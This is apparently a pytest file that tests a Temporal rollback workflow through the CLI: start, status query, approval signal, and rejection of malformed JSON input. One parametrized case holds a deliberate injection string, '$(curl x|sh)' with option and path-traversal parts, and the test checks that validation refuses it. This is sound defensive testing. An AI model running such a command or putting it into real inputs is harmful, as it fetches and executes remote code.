"""The `temporal` CLI as a client: plain JSON in, signals, the status query, bad input."""

from __future__ import annotations

import asyncio
import json
import subprocess

import pytest
from temporalio.client import Client, WorkflowExecutionStatus

from tests.conftest import temporal_binary, write_config
from tests.helpers import eventually, front_version


async def temporal(client: Client, *args: str) -> subprocess.CompletedProcess:
    address = client.service_client.config.target_host
    command = [temporal_binary(), *args, "--address", address, "--namespace", client.namespace]
    return await asyncio.to_thread(subprocess.run, command, capture_output=True, text=True, timeout=60)


async def test_start_signal_and_query_with_the_temporal_cli(blue_green, tmp_path, client, task_queue, run_worker):
    blue_green.deploy("v2", "errors")
    await run_worker(write_config(blue_green, tmp_path))
    request = {"environment": "demo", "targets": ["backend"], "trigger": "manual", "initiated_by": "admin-user",
               "reason": "error rate 12% after v2", "to_version": None, "require_approval": True, "dry_run": False}
    workflow_id = f"rollback-demo-cli-{task_queue}"

    started = await temporal(client, "workflow", "start", "--type", "RollbackWorkflow", "--task-queue", task_queue,
                             "--workflow-id", workflow_id, "--input", json.dumps(request))
    assert started.returncode == 0, started.stderr

    async def query() -> dict:
        done = await temporal(client, "workflow", "query", "--workflow-id", workflow_id, "--name", "status", "--output", "json")
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)["queryResult"][0]

    status = await eventually(query, lambda s: s["approval"]["decision"] == "pending", what="approval wait")
    assert status["phase"] == "coordination" and status["plan"]["targets"][0]["to_version"] == "v1"

    signalled = await temporal(client, "workflow", "signal", "--workflow-id", workflow_id, "--name", "approve",
                               "--input", json.dumps({"by": "carol", "comment": "ok"}))
    assert signalled.returncode == 0, signalled.stderr
    final = await eventually(query, lambda s: s["state"] in ("succeeded", "failed", "compensated"), timeout=60)
    assert final["state"] == "succeeded" and final["approval"]["by"] == "carol"
    assert await front_version(blue_green.front_url) == "v1"


@pytest.mark.parametrize("payload, field", [
    ('{"environment": "demo", "targets": ["nonsense"]}', "targets"),
    ('{"environment": "atlantis", "targets": ["backend"]}', "environment"),
    ('{"environment": "demo", "targets": ["backend"], "require_approval": "perhaps"}', "require_approval"),
    ('"just a string"', "input"),
    # Typed into the UI: would reach deploy_command's arguments (option, path and shell injection).
    ('{"environment": "demo", "targets": ["backend"], "to_version": {"backend": "--help; $(curl x|sh) ../../etc"}}',
     "to_version.backend: '--help; $(curl x|sh) ../../etc' is not a valid version"),
    ('{"environment": "demo", "targets": ["frontend"]}', "targets: frontend not configured for 'demo' (configured: backend)"),
    # It would ride in the plan, the status, every query and the memo.
    ('{"environment": "demo", "targets": ["backend"], "evidence": {"samples": "' + "x" * 40_000 + '"}}',
     "evidence: Value error, 40014 bytes of JSON; at most 32768"),
])
async def test_bad_json_from_the_cli_fails_the_workflow_within_seconds(blue_green, tmp_path, client, task_queue, run_worker, payload, field):
    await run_worker(write_config(blue_green, tmp_path))
    workflow_id = f"bad-cli-{task_queue}"
    started = await temporal(client, "workflow", "start", "--type", "RollbackWorkflow", "--task-queue", task_queue,
                             "--workflow-id", workflow_id, "--input", payload)
    assert started.returncode == 0, started.stderr

    handle = client.get_workflow_handle(workflow_id)
    described = await eventually(handle.describe, lambda d: d.status != WorkflowExecutionStatus.RUNNING, timeout=15,
                                 what="the workflow to end")
    assert described.status == WorkflowExecutionStatus.FAILED
    history = await handle.fetch_history()
    failure = history.events[-1].workflow_execution_failed_event_attributes.failure
    assert field in failure.message + (failure.cause.message if failure.HasField("cause") else "")
